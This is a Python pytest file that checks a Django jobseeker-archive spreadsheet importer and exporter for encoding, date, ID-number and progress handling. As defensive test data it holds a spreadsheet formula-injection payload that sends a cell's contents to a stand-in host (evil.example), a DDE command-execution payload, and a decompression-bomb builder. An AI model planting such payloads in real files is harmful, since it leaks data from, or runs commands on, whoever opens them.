"""Spreadsheets as stations have them: files from LibreOffice, .xls, GBK/UTF-8 CSV, numbers that lost digits,
dates in every office form, formula injection, understated dimensions, decompression bombs, example rows, the
error report uploaded back, phases."""

import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from core import spreadsheets as sheets
from jobseekers.imports import HEADERS
from jobseekers.models import ImportJob, JobseekerArchive

from .factories import make_archive
from .test_import import row, upload, xlsx

pytestmark = pytest.mark.django_db
FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "spreadsheets"
AS_NUMBER = "身份证号被表格软件存成了数字，末几位已丢失：请把该列设置为文本后重新输入"


def _import(client, world, content, name, capture, **kw) -> ImportJob:
    client.force_login(world["staff"])
    with capture(execute=True):
        upload(client, world, content, name=name, **kw)
    return ImportJob.objects.latest("pk")


@pytest.mark.parametrize("name", ["archives_libreoffice_general.xlsx", "archives_libreoffice_general.xls"])
def test_id_numbers_stored_as_numbers_by_libreoffice_are_refused_as_such(client, world, name,
                                                                      django_capture_on_commit_callbacks):
    job = _import(client, world, (FIXTURES / name).read_bytes(), name, django_capture_on_commit_callbacks)
    assert job.status == ImportJob.Status.DONE and (job.total_rows, job.imported_rows, job.failed_rows) == (9, 3, 6)
    assert sorted(JobseekerArchive.objects.values_list("name", flat=True)) == sorted(["赵敏", "黄勇", "周婷"])
    for error in job.errors:
        assert error["reason"] == AS_NUMBER and error["id_number"] == ""  # no check-digit error, no fake mask
    assert "校验位" not in str(job.errors)


@pytest.mark.parametrize("name", ["archives_libreoffice_text.xlsx", "archives_libreoffice_text.xls",
                                  "archives_utf8.csv", "archives_utf8_bom.csv", "archives_gbk.csv"])
def test_files_from_office_software_import_every_row_with_every_date_form(client, world, name,
                                                                          django_capture_on_commit_callbacks):
    job = _import(client, world, (FIXTURES / name).read_bytes(), name, django_capture_on_commit_callbacks)
    assert (job.imported_rows, job.failed_rows) == (9, 0), job.errors
    dates = dict(JobseekerArchive.objects.values_list("name", "consent_date"))
    assert dates["王芳"] == dt.date(2026, 11, 1) and dates["张伟"] == dt.date(2026, 11, 3)
    assert dates["刘洋"] == dt.date(2026, 11, 4) and dates["周婷"] == dt.date(2026, 11, 9)
    assert JobseekerArchive.objects.get(name="王芳").id_number == "310104199211251008"


def test_cells_are_parsed_one_way():
    assert sheets.id_number(310104199211251008) == "310104199211251008"  # an exact integer is accepted
    for damaged in (3.10104199211251e17, "3.10104199211251E+17"):
        with pytest.raises(ValidationError, match=AS_NUMBER):
            sheets.id_number(damaged)
    assert sheets.phone(13800138000) == "13800138000"
    with pytest.raises(ValidationError, match="开头的 0"):
        sheets.phone(2164001234)
    for value in (dt.datetime(2026, 11, 1), 46327, "46327", "2026/11/1", "2026年11月1日", "2026.11.01",
                  "2026-11-01", "20261101", "2026/11/1 0:00:00"):
        assert sheets.date(value, "同意日期") == dt.date(2026, 11, 1), value
    with pytest.raises(ValidationError, match="同意日期“2026/13/1”不是有效日期"):
        sheets.date("2026/13/1", "同意日期")
    assert sheets.integer("6,000", "期望月薪") == 6000
    with pytest.raises(ValidationError, match="应为整数"):
        sheets.integer("6000.5", "期望月薪")


def test_download_names_are_rfc_6266_and_5987(client, world):
    client.force_login(world["staff"])
    response = client.get(reverse("jobseekers:import_template"))
    assert response["Content-Type"] == sheets.XLSX_TYPE
    assert "filename*=utf-8''%E6%B1%82" in response["Content-Disposition"]


def _cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))
    return [c for ws in wb.worksheets for r in ws.iter_rows() for c in r if c.value is not None]


def _no_formula(content: bytes) -> list:
    cells = _cells(content)
    assert cells
    return [c.value for c in cells if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith("="))]


EVIL = '=HYPERLINK("http://evil.example/?"&B2,"点我")'


def test_no_export_writes_a_formula(client, world, django_capture_on_commit_callbacks):
    from stations.models import Station

    make_archive(world["station_a"], name=EVIL)
    Station.objects.filter(pk=world["station_a"].pk).update(name="@SUM(1+1)站")
    client.force_login(world["district"])
    full = client.post(reverse("jobseekers:archive_export_full"), {"reason": "核对名单", "confirm": "on"})
    for url, response in [("full", full)] + [(url, client.get(url)) for url in (
            reverse("jobseekers:archive_export"), reverse("stations:station_export"))]:
        assert response.status_code == 200, url
        assert _no_formula(response.content) == [], url
        assert any(isinstance(c.value, str) and c.value.startswith("'=HYPERLINK") or c.value == "'@SUM(1+1)站"
                   for c in _cells(response.content)), url
    job = _import(client, world, xlsx([row(EVIL, "123"), row("+cmd|' /C calc'!A0", "456")]), "a.xlsx",
                  django_capture_on_commit_callbacks)
    report = client.get(reverse("jobseekers:import_errors", args=[job.pk]))
    assert _no_formula(report.content) == []
    assert _no_formula(client.get(reverse("jobseekers:import_template")).content) == []
    assert _no_formula(client.get(reverse("jobs:posting_import"), {"template": 1}).content) == []


def _with_dimension(content: bytes, ref: str) -> bytes:
    source, out = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data, n = re.subn(rb'<dimension ref="[^"]*"', f'<dimension ref="{ref}"'.encode(), data)
                assert n == 1
            target.writestr(item, data)
    return out.getvalue()


def test_rows_beyond_an_understated_dimension_are_read(client, world, django_capture_on_commit_callbacks):
    content = _with_dimension(xlsx([row("甲"), row("乙"), row("丙")]), "A1:R2")
    job = _import(client, world, content, "a.xlsx", django_capture_on_commit_callbacks)
    assert job.total_rows == 3 and job.imported_rows == 3 and "全部成功" in job.message


def test_a_decompression_bomb_is_refused_before_it_is_parsed(client, world, django_capture_on_commit_callbacks):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        source = zipfile.ZipFile(io.BytesIO(xlsx([row("甲")])))
        for item in source.infolist():
            z.writestr(item.filename, source.read(item))
        z.writestr("xl/sharedStrings.xml", b"<sst>" + b"<si><t>a</t></si>" * 2_000_000 + b"</sst>")
    bomb = buffer.getvalue()
    assert len(bomb) < 200_000
    job = _import(client, world, bomb, "bomb.xlsx", django_capture_on_commit_callbacks)
    assert job.status == ImportJob.Status.FAILED and "文字单元格超过" in job.message
    with pytest.raises(sheets.UploadError, match="解压后超过"):
        big = io.BytesIO()
        with zipfile.ZipFile(big, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr("xl/worksheets/sheet1.xml", b" " * (sheets.MAX_UNCOMPRESSED + 1))
        sheets.check_xlsx(big.getvalue())
    assert not JobseekerArchive.objects.exists()


def _rows(content: bytes) -> list[list]:
    return [list(r) for r in load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True)]


def test_template_marks_its_example_and_text_columns_and_the_example_is_never_imported(
        client, world, django_capture_on_commit_callbacks):
    client.force_login(world["staff"])
    template = client.get(reverse("jobseekers:import_template")).content
    wb = load_workbook(io.BytesIO(template))
    sheet = wb.worksheets[0]
    assert sheet["A2"].value.startswith("示例") and sheet["B5"].number_format == "@" and sheet["C5"].number_format == "@"
    assert "文本格式" in str([c.value for c in wb["填写说明"]["B"]])
    job = _import(client, world, template, "template.xlsx", django_capture_on_commit_callbacks)
    assert job.status == ImportJob.Status.FAILED and "没有数据行" in job.message and "示例" in job.message
    sheet.append(row("真人"))
    buffer = io.BytesIO()
    wb.save(buffer)
    job = _import(client, world, buffer.getvalue(), "filled.xlsx", django_capture_on_commit_callbacks)
    assert job.imported_rows == 1 and list(JobseekerArchive.objects.values_list("name", flat=True)) == ["真人"]
    assert "示例" in job.message


def test_the_error_report_fixed_and_uploaded_again_imports(client, world, django_capture_on_commit_callbacks):
    job = _import(client, world, xlsx([row("甲"), row("乙", **{"同意日期": ""}), row("-丙", **{"同意范围": "随便"})]),
                  "a.xlsx", django_capture_on_commit_callbacks)
    assert (job.imported_rows, job.failed_rows) == (1, 2)
    report = _rows(client.get(reverse("jobseekers:import_errors", args=[job.pk])).content)
    assert report[0] == [*HEADERS, *sheets.REPORT_COLUMNS] and len(report) == 3
    wb = load_workbook(io.BytesIO(client.get(reverse("jobseekers:import_errors", args=[job.pk])).content))
    ws = wb.active
    ws.cell(row=2, column=HEADERS.index("同意日期") + 1, value="2026年11月2日")
    ws.cell(row=3, column=HEADERS.index("同意范围") + 1, value="仅用于本站就业服务")
    buffer = io.BytesIO()
    wb.save(buffer)
    again = _import(client, world, buffer.getvalue(), "fixed.xlsx", django_capture_on_commit_callbacks)
    assert (again.imported_rows, again.failed_rows) == (2, 0), again.errors
    assert set(JobseekerArchive.objects.values_list("name", flat=True)) == {"甲", "乙", "-丙"}


def test_progress_says_which_phase_it_is_in(client, world):
    job = ImportJob.objects.create(station=world["station_a"], created_by=world["staff"], file_name="a.xlsx",
                                   total_rows=400, processed_rows=100, status=ImportJob.Status.RUNNING,
                                   phase=ImportJob.Phase.VALIDATE)
    client.force_login(world["staff"])
    url = reverse("jobseekers:import_detail", args=[job.pk])
    assert "校验中" in client.get(url, headers={"HX-Request": "true"}).content.decode()
    ImportJob.objects.filter(pk=job.pk).update(phase=ImportJob.Phase.WRITE)
    assert "写入中" in client.get(url, headers={"HX-Request": "true"}).content.decode()


def test_posting_import_reads_gbk_csv_and_its_report_holds_no_formula(client, world, django_capture_on_commit_callbacks):
    from jobs.imports import LABELS
    from jobs.models import JobPosting
    from tests.jobs.factories import make_employer, post_import

    employer = make_employer(world["station_a"])
    text = ",".join(LABELS) + "\n" + f"{employer.name},收银员,,,,4000,5000,元/月,1,全职,,,2030年12月31日,\n" \
        + f"{employer.name},=理货员,,,,9000,5000,元/月,1,全职,,,,\n"
    client.force_login(world["staff"])
    response = post_import(client, django_capture_on_commit_callbacks, {
        "station": world["station_a"].pk, "file": SimpleUploadedFile("postings.csv", text.encode("gbk"))})
    body = response.content.decode()
    assert "成功导入 1 行" in body and "1 行有错误" in body
    assert JobPosting.objects.get(title="收银员").expires_on == dt.date(2030, 12, 31)
    report = client.get(response.context["report_url"]).content
    assert _no_formula(report) == [] and _rows(report)[1][1] == "'=理货员"
